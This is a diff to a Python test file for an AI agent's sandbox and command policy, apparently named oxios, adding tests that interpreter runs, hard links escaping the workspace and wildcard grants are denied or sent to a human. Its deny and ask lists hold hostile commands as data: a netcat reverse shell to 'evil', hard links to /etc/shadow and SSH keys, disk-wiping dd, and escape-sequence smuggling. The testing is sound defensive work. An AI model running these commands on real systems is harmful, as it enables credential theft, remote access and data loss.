@@ -1,4 +1,5 @@
-"""The attack corpus: exec injection, path escapes, SSRF forms, and a legit set that must pass.
+"""The attack corpus: exec injection, interpreters, path escapes, hard links, SSRF forms,
+and a legit set that must pass.
 
 Every case goes through the real policy engine and the built-in policies
 (``kernel`` facade without background services), so what is tested is what
@@ -8,6 +9,7 @@ an agent meets.
 from __future__ import annotations
 
 import os
+import shutil
 from pathlib import Path
 from typing import Any
 
@@ -34,6 +36,10 @@ ALLOWED = [
     "chmod",
     "dd",
     "head",
+    "ln",
+    "cp",
+    "perl",
+    "node",
 ]
 
 
@@ -71,6 +77,8 @@ def kernel(tmp_path_factory: pytest.TempPathFactory) -> Any:
     os.symlink(str(outside / "not-yet"), ws / "dangling_out")
     os.symlink(str(ws / "sub"), ws / "inner_link")
     os.symlink("../../outside/secret.txt", ws / "sub" / "relative_out")
+    os.link(outside / "secret.txt", ws / "hard_out")  # a hard link: a second name for the outside file
+    (root / "extra" / "shared.txt").write_text("in an allowed path outside the workspace")
     (home / "config.toml").write_text("")
     k.root = root
     return k
@@ -165,6 +173,16 @@ EXEC_DENY: list[list[str]] = [
     ["nc", "-e", "/bin/sh", "evil", "4444"],
     ["sudo", "ls"],
     ["wget", "http://x"],
+    ["cat", "hard_out"],
+    ["wc", "-c", "hard_out"],
+    ["ln", "../outside/secret.txt", "x"],
+    ["ln", "~/.ssh/id_rsa", "x"],
+    ["ln", "/etc/passwd", "sub/x"],
+    ["ln", "-t", "sub", "/etc/shadow"],
+    ["cp", "-l", "/etc/passwd", "x"],
+    ["ln", "README.md", "../outside/planted"],
+    ["python3", "-c", "print(1)\x1b[2K"],
+    ["python3", "-c", "print(1)\rprint(2)"],
 ]
 
 
@@ -201,6 +219,7 @@ EXEC_ASK = [
     ["git", "push", "origin", "+main"],
     ["git", "push", "--force-with-lease"],
     ["python3", "-c", "print 1"],
+    ["python3", "script.py"],
     ["find", ".", "-delete"],
     ["git", "reset", "--hard"],
     ["git", "config", "user.name", "x"],
@@ -231,7 +250,12 @@ EXEC_LEGIT = [
     ["cat", "README.md"],
     ["cat", "sub/file.txt"],
     ["cat", "inner_link/file.txt"],
-    ["python3", "script.py"],
+    ["python3", "--version"],
+    ["python3", "-V"],
+    ["perl", "-v"],
+    ["ln", "README.md", "sub/readme-again"],
+    ["ln", "-s", "README.md", "readme-link"],
+    ["cp", "-l", "sub/file.txt", "copy.txt"],
     ["wc", "-l", "README.md"],
     ["tar", "-cf", "out.tar", "sub"],
     ["sed", "-n", "1p", "README.md"],
@@ -321,6 +345,9 @@ SHELL_DENY = [
     "python3 -c 1 | nc x 1",
     "find . -exec id +",
     "git -c core.pager=sh log",
+    "cat hard_out",
+    "wc -c hard_out | head -1",
+    "ln ~/.ssh/id_rsa x",
 ]
 
 
@@ -342,6 +369,14 @@ SHELL_ASK = [
     "chmod -R 777 /",
     "dd if=/dev/zero of=/dev/sda",
     "(cd sub && git push -f)",
+    "python3 script.py",
+    "python3 -m http.server",
+    "echo 'import os' | python3",
+    "cat script.py | python3 -",
+    "bash script.sh",
+    "ln README.md sub/again",
+    "(cd / && ln etc/passwd ~/x)",
+    "cp -al sub sub-copy",
 ]
 
 
@@ -359,6 +394,9 @@ SHELL_LEGIT = [
     "(cd sub && ls)",
     "for f in a b; do echo $f; done",
     "grep -c x README.md || true",
+    "python3 --version",
+    "bash --version && python3 -V",
+    "ln -s README.md readme-link",
 ]
 
 
@@ -379,6 +417,175 @@ def test_dangerous_patterns() -> None:
     assert danger(["sudo", "ls"]) and danger(["mkfs.ext4", "/dev/sda1"]) and danger(["dd", "of=/dev/sda"])
     assert danger(["chmod", "-R", "777", "/"]) and danger(["rm", "-rf", "$HOME"])
     assert danger(["rm", "-rf", "build"]) is None and danger(["dd", "if=a", "of=b"]) is None
+
+
+# -- interpreters ------------------------------------------------------------------------------
+
+# Every form in which an interpreter runs code asks; the expected text names what it runs.
+INTERPRETER_CODE = [
+    (["python3", "-c", "print(1)"], "python3 -c runs code given on the command line"),
+    (["python3", "-Ic", "import os"], "python3 -Ic runs code"),
+    (["python3", "-cimport os"], "python3 -cimport os runs code"),
+    (["python3", "-m", "evil"], "python3 -m evil runs a module"),
+    (["python3", "-mhttp.server"], "python3 -m http.server runs a module"),
+    (["python3", "script.py"], "python3 runs script.py"),
+    (["python3", "-u", "-W", "ignore", "script.py", "--flag"], "python3 runs script.py"),
+    (["python3", "--", "script.py"], "python3 runs script.py"),
+    (["python3"], "python3 with no script reads code from standard input"),
+    (["python3", "-"], "standard input"),
+    (["python3", "-v"], "standard input"),  # -v is verbose for python, not the version
+    (["python3.11", "-c", "1"], "python3.11 -c runs code"),
+    (["pypy3", "x.py"], "pypy3 runs x.py"),
+    (["node", "-e", "require('child_process')"], "node -e runs code"),
+    (["node", "--eval=1"], "node --eval runs code"),
+    (["node", "-p", "process.env"], "node -p runs code"),
+    (["node", "x.js"], "node runs x.js"),
+    (["nodejs", "x.js"], "nodejs runs x.js"),
+    (["perl", "-e", "exec 'id'"], "perl -e runs code"),
+    (["perl", "-le", "print 1"], "perl -le runs code"),
+    (["perl", "x.pl"], "perl runs x.pl"),
+    (["perl5.36.0", "x.pl"], "perl5.36.0 runs x.pl"),
+    (["ruby", "-e", "1"], "ruby -e runs code"),
+    (["ruby", "-r", "socket", "x.rb"], "ruby runs x.rb"),
+    (["php", "-r", "system('id');"], "php -r runs code"),
+    (["php", "x.php"], "php runs x.php"),
+    (["lua", "-e", "os.execute('id')"], "lua -e runs code"),
+    (["lua5.4", "x.lua"], "lua5.4 runs x.lua"),
+    (["deno", "eval", "1"], "deno eval runs code given on the command line"),
+    (["deno", "run", "x.ts"], "deno run runs or installs code"),
+    (["bun", "-e", "1"], "bun -e runs code"),
+    (["bun", "x.ts"], "bun runs x.ts"),
+    (["bash", "script-the-agent-wrote.sh"], "bash runs script-the-agent-wrote.sh"),
+    (["bash", "-h"], "standard input"),  # -h is a set option for bash, not help
+    (["sh", "-c", "id"], "sh -c runs code"),
+    (["zsh", "x.zsh"], "zsh runs x.zsh"),
+    (["awk", "BEGIN{system(1)}"], "awk runs BEGIN"),
+]
+
+
+@pytest.mark.parametrize("argv,what", INTERPRETER_CODE, ids=[" ".join(a) for a, _ in INTERPRETER_CODE])
+def test_interpreter_running_code_needs_a_human(argv: list[str], what: str) -> None:
+    from oxios.security.exec_rules import interpreter_risk
+
+    reason = interpreter_risk(argv[0], argv[1:])
+    assert reason is not None and what in reason, reason
+    assert "an interpreter runs whatever code it is given" in reason
+
+
+INTERPRETER_INFO = [
+    ["python3", "--version"],
+    ["python3", "-V"],
+    ["python3", "-VV"],
+    ["python3.11", "--help"],
+    ["node", "--version"],
+    ["node", "-v"],
+    ["perl", "-v"],
+    ["ruby", "--version"],
+    ["php", "-v"],
+    ["lua", "-v"],
+    ["deno", "--version"],
+    ["bun", "-v"],
+    ["bash", "--version"],
+]
+
+
+@pytest.mark.parametrize("argv", INTERPRETER_INFO, ids=[" ".join(a) for a in INTERPRETER_INFO])
+def test_interpreter_version_and_help_do_not_ask(argv: list[str]) -> None:
+    from oxios.security.exec_rules import interpreter_risk
+
+    assert interpreter_risk(argv[0], argv[1:]) is None
+    assert interpreter_risk("git", ["-c", "x"]) is None  # not an interpreter at all
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [["python3", "-c", "import os; os.system('id')"], ["python3", "script.py", "a|b"], ["perl", "-e", "1"], ["node", "-e", "1"]],
+    ids=lambda a: " ".join(a),
+)
+async def test_structured_interpreter_code_asks_with_its_reason(kernel: Any, argv: list[str]) -> None:
+    if shutil.which(argv[0]) is None:
+        pytest.skip(f"{argv[0]} is not installed")
+    verdict = await _judge(kernel, Action(kind="exec", argv=argv, tool="exec"))
+    # Metacharacters are inert without a shell: the code reaches a human instead of a blanket deny.
+    assert verdict.verdict == "ask", verdict
+    assert verdict.policy == "exec" and f"{argv[0]} " in verdict.reason and "interpreter" in verdict.reason
+
+
+async def test_versioned_interpreter_name_is_no_way_around(kernel: Any) -> None:
+    from oxios.security.exec_rules import check_shell, check_structured
+
+    python = "python3.11"
+    if shutil.which(python) is None:
+        pytest.skip(f"{python} is not installed")
+    assert check_structured([python, "-c", "1"], [python]).verdict == "ask"
+    assert check_structured([python, "--version"], [python]).verdict == "allow"
+    assert check_shell(f"{python} -c 1", [python])[0].verdict == "ask"
+
+
+async def test_headless_interpreter_run_is_denied_until_granted(oxios_kernel: Any) -> None:
+    (oxios_kernel.paths.workspace / "hello.py").write_text("print('hello from the script')\n")
+    exec_tool = oxios_kernel.tools.get("exec")
+    context = oxios_kernel.context(agent_id="agent-x", interactive=False)
+    denied = await exec_tool.call({"binary": "python3", "args": ["hello.py"]}, context)
+    assert denied.is_error and "python3 runs hello.py" in denied.content and "interpreter" in denied.content
+    assert "hello from the script" not in denied.content
+    version = await exec_tool.call({"binary": "python3", "args": ["--version"]}, context)
+    assert not version.is_error and "Python 3" in version.content
+    approvals = oxios_kernel.services["approvals"]
+    approvals.grant(Action(kind="exec", argv=["python3", "hello.py"]), scope="global", scope_id="*", by="operator")
+    ran = await exec_tool.call({"binary": "python3", "args": ["hello.py"]}, context)
+    assert not ran.is_error and "hello from the script" in ran.content
+    other = await exec_tool.call({"binary": "python3", "args": ["-c", "print(2)"]}, context)
+    assert other.is_error  # the grant covers exactly that command
+
+
+@pytest.mark.parametrize("binary", ["python3", "python3.11", "node", "perl", "bash", "sh", "env", "awk", "deno"])
+@pytest.mark.parametrize("pattern", ["*", "-c *", "x?", "[a-z]*", "-c [ab]", "[[]*]", "-c print(1)*"])
+def test_interpreter_grants_are_never_wildcards(binary: str, pattern: str) -> None:
+    from oxios.security.exec_rules import grant_pattern_allowed
+
+    assert not grant_pattern_allowed(binary, pattern)
+    assert grant_pattern_allowed("git", "status *")  # ordinary binaries may be granted with globs
+
+
+async def test_exact_interpreter_grant_with_glob_characters(oxios_kernel: Any) -> None:
+    """Code with * in it can be granted exactly (escaped), and the grant matches nothing else."""
+    import asyncio
+
+    from oxios.security.approvals import ApprovalError
+
+    approvals = oxios_kernel.services["approvals"]
+    action = Action(kind="exec", argv=["python3", "-c", "print(2*3)"], tool="exec")
+    task = asyncio.create_task(approvals.request(action, oxios_kernel.context(agent_id="a"), "python3 -c"))
+    for _ in range(100):  # yield to the request task until it has stored the approval
+        pending = approvals.list()
+        if pending:
+            break
+        await asyncio.sleep(0)
+    else:
+        pytest.fail("the approval never became pending")
+    with pytest.raises(ApprovalError, match="wildcard"):
+        approvals.approve(pending[0]["id"], scope="global", pattern="-c print(2*3)")
+    grant_id = approvals.approve(pending[0]["id"], scope="global")["grant_id"]
+    assert (await task).verdict == "allow"
+    assert [g["arg_pattern"] for g in approvals.grants() if g["id"] == grant_id] == ["-c print(2[*]3)"]
+    headless = oxios_kernel.context(agent_id="b", interactive=False)
+    assert (await approvals.request(action, headless, "?")).verdict == "allow"
+    for code in ("print(2*4)", "print(2x3)", "print(2*3); import os"):
+        other = Action(kind="exec", argv=["python3", "-c", code], tool="exec")
+        assert (await approvals.request(other, headless, "?")).verdict == "deny", code
+
+
+def test_policy_explain_shows_the_interpreter_ask(oxios_cli: Any) -> None:
+    import json
+
+    text = oxios_cli("policy", "explain", "exec", "--", "python3", "-c", "print(1)")
+    assert text.exit_code == 0, text.output
+    assert "verdict: ask (python3 -c runs code given on the command line" in text.output
+    vote = next(line for line in text.output.splitlines() if line.strip().startswith("exec "))
+    assert vote.split()[:2] == ["exec", "ask"] and "an interpreter runs whatever code it is given" in vote
+    out = json.loads(oxios_cli("policy", "explain", "--json", "exec", "--", "python3", "--version").output)
+    assert out["verdict"] == "allow"
 
 
 # -- paths ---------------------------------------------------------------------------------------------
@@ -408,6 +615,7 @@ PATH_DENY = [
     "bad\x00name",
     "/proc/self/environ",
     "/dev/sda",
+    "hard_out",
 ]
 
 
@@ -515,6 +723,162 @@ def test_sandbox_open_writes_inside(tmp_path: Path) -> None:
     assert (tmp_path / "made.txt").read_text() == "ok"
     with pytest.raises(PathDenied):
         sandbox.open("/etc/hostname")
+
+
+# -- hard links --------------------------------------------------------------------------------------------
+
+HARDLINK = "hard-linked file: its other names may be outside the workspace"
+
+
+def _hard_linked_workspace(tmp_path: Path) -> tuple[Path, Path]:
+    """A workspace holding ``x``, a hard link to ``outside/secret`` (same file system), and ``normal.txt``."""
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (tmp_path / "outside").mkdir()
+    secret = tmp_path / "outside" / "secret"
+    secret.write_text("outside secret")
+    os.link(secret, ws / "x")
+    (ws / "normal.txt").write_text("normal")
+    return ws, secret
+
+
+@pytest.mark.parametrize("mode", ["r", "rb", "r+", "w", "a", "wb"])
+def test_hard_link_to_outside_file_refused_at_open(tmp_path: Path, mode: str) -> None:
+    from oxios.security.sandbox import PathDenied, Sandbox
+
+    ws, secret = _hard_linked_workspace(tmp_path)
+    sandbox = Sandbox.build(ws)
+    with pytest.raises(PathDenied, match=HARDLINK):
+        sandbox.open("x", mode)
+    assert secret.read_text() == "outside secret"  # never truncated nor appended to
+
+
+def test_hard_link_refused_by_check_and_normal_file_passes(tmp_path: Path) -> None:
+    from oxios.security.sandbox import Sandbox
+
+    ws, _ = _hard_linked_workspace(tmp_path)
+    sandbox = Sandbox.build(ws)
+    for check in (sandbox.check, sandbox.check_write):
+        ok, reason, real = check("x")
+        assert not ok and HARDLINK in reason and real == str(ws / "x")
+        assert check("normal.txt")[0] and check("not-yet.txt")[0]
+    (ws / "dir").mkdir()  # directories always have several names; they are not judged by links
+    assert sandbox.check("dir")[0] and os.stat(ws / "dir").st_nlink > 1
+    assert sandbox.open("normal.txt").read() == "normal"
+    with sandbox.open("normal.txt", "w") as fh:
+        fh.write("rewritten")
+    assert (ws / "normal.txt").read_text() == "rewritten"
+
+
+def test_read_hardlinked_files_opens_reads_only(tmp_path: Path) -> None:
+    from oxios.security.sandbox import PathDenied, Sandbox
+
+    ws, secret = _hard_linked_workspace(tmp_path)
+    sandbox = Sandbox.build(ws, read_hardlinked=True)
+    assert sandbox.check("x")[0] and sandbox.open("x").read() == "outside secret"
+    assert not sandbox.check_write("x")[0]
+    with pytest.raises(PathDenied, match=HARDLINK):
+        sandbox.open("x", "w")
+    assert secret.read_text() == "outside secret"
+
+
+@pytest.mark.parametrize("mode", ["r", "w", "a"])
+@pytest.mark.parametrize("swap_to", ["hard link", "symlink"])
+def test_link_swapped_in_after_check_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str, swap_to: str) -> None:
+    """The file passes the check, then becomes a second name of the outside file: the opened fd is judged."""
+    from oxios.security.sandbox import PathDenied, Sandbox
+
+    ws, secret = _hard_linked_workspace(tmp_path)
+    sandbox = Sandbox.build(ws)
+    target = ws / "normal.txt"
+
+    def swap() -> None:
+        target.unlink()
+        (os.link if swap_to == "hard link" else os.symlink)(secret, target)
+
+    _swap_after_check(monkeypatch, swap)
+    with pytest.raises(PathDenied):
+        sandbox.open("normal.txt", mode)
+    assert secret.read_text() == "outside secret"
+
+
+async def test_file_tools_refuse_hard_links(oxios_kernel_factory: Any, tmp_path: Path) -> None:
+    secret = tmp_path / "id_rsa"
+    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY----- outside")
+    async with oxios_kernel_factory() as kernel:
+        ws = kernel.paths.workspace
+        os.link(secret, ws / "x")
+        (ws / "normal.txt").write_text("normal text")
+        context = kernel.context(agent_id="agent-h", interactive=False)
+
+        async def call(name: str, **args: Any) -> Any:
+            return await kernel.tools.get(name).call(args, context)
+
+        for result in (
+            await call("read", path="x"),
+            await call("write", path="x", content="overwritten"),
+            await call("edit", path="x", old="outside", new="inside"),
+        ):
+            assert result.is_error and HARDLINK in result.content, result.content
+            assert "PRIVATE KEY" not in result.content
+        found = await call("grep", pattern="PRIVATE", path=".")
+        assert "PRIVATE KEY" not in found.content and "1 file(s) not searched" in found.content and "x" in found.content
+        assert secret.read_text() == "-----BEGIN OPENSSH PRIVATE KEY----- outside"
+        assert (ws / "x").read_text() == secret.read_text() and os.stat(ws / "x").st_nlink == 2
+
+        # The write tool's temporary file planted as a hard link is refused before anything is truncated.
+        os.link(secret, ws / ".new.txt.oxios-tmp")
+        planted = await call("write", path="new.txt", content="x")
+        assert planted.is_error and HARDLINK in planted.content
+        assert secret.read_text().startswith("-----BEGIN")
+
+        assert (await call("read", path="normal.txt")).content == "normal text"
+        assert not (await call("edit", path="normal.txt", old="normal", new="plain")).is_error
+        assert not (await call("write", path="other.txt", content="fine")).is_error
+        assert (ws / "normal.txt").read_text() == "plain text" and (ws / "other.txt").read_text() == "fine"
+
+
+async def test_read_hardlinked_files_setting(oxios_kernel_factory: Any, tmp_path: Path) -> None:
+    secret = tmp_path / "shared.txt"
+    secret.write_text("shared by a package cache")
+    async with oxios_kernel_factory(config={"security": {"read_hardlinked_files": True}}) as kernel:
+        os.link(secret, kernel.paths.workspace / "x")
+        context = kernel.context(agent_id="agent-h", interactive=False)
+        read = await kernel.tools.get("read").call({"path": "x"}, context)
+        assert not read.is_error and read.content == "shared by a package cache"
+        write = await kernel.tools.get("write").call({"path": "x", "content": "changed"}, context)
+        assert write.is_error and HARDLINK in write.content
+        assert secret.read_text() == "shared by a package cache"
+
+
+async def test_hard_link_creation_from_outside_the_workspace_asks(kernel: Any) -> None:
+    shared = str(kernel.root / "extra" / "shared.txt")  # inside security.allowed_paths, outside the workspace
+    for argv in (["ln", shared, "copy"], ["ln", "-f", "-t", "sub", shared], ["cp", "-l", shared, "copy"]):
+        verdict = await _judge(kernel, Action(kind="exec", argv=argv, tool="exec"))
+        assert verdict.verdict == "ask" and "makes a hard link to" in verdict.reason and "outside the workspace" in verdict.reason
+    symlink = await _judge(kernel, Action(kind="exec", argv=["ln", "-s", shared, "copy"], tool="exec"))
+    assert symlink.verdict == "allow"  # a symlink is resolved by the sandbox wherever it is used
+    cat = await _judge(kernel, Action(kind="exec", argv=["cat", "hard_out"], tool="exec"))
+    assert cat.verdict == "deny" and HARDLINK in cat.reason
+    shell = await _judge(kernel, Action(kind="exec", command="ln README.md again", mode="shell"), role="admin")
+    assert shell.verdict == "ask" and "hard link" in shell.reason
+
+
+def test_hard_link_sources() -> None:
+    from oxios.security.exec_rules import hard_link_sources
+
+    assert hard_link_sources(["ln", "a", "b"]) == ["a"]
+    assert hard_link_sources(["ln", "a"]) == ["a"]
+    assert hard_link_sources(["ln", "-f", "a", "b", "dir"]) == ["a", "b"]
+    assert hard_link_sources(["ln", "-t", "dir", "a", "b"]) == ["a", "b"]
+    assert hard_link_sources(["ln", "--target-directory=dir", "a"]) == ["a"]
+    assert hard_link_sources(["ln", "-S", ".bak", "a", "b"]) == ["a"]
+    assert hard_link_sources(["ln", "--", "-s", "b"]) == ["-s"]
+    assert hard_link_sources(["link", "a", "b"]) == ["a"]
+    assert hard_link_sources(["cp", "-al", "a", "b"]) == ["a"]
+    assert hard_link_sources(["cp", "--link", "-t", "d", "a"]) == ["a"]
+    for argv in (["ln", "-s", "a", "b"], ["ln", "-sf", "a", "b"], ["ln", "--symbolic", "a", "b"], ["cp", "a", "b"], ["ls"]):
+        assert hard_link_sources(argv) is None, argv
 
 
 # -- SSRF ------------------------------------------------------------------------------------------------
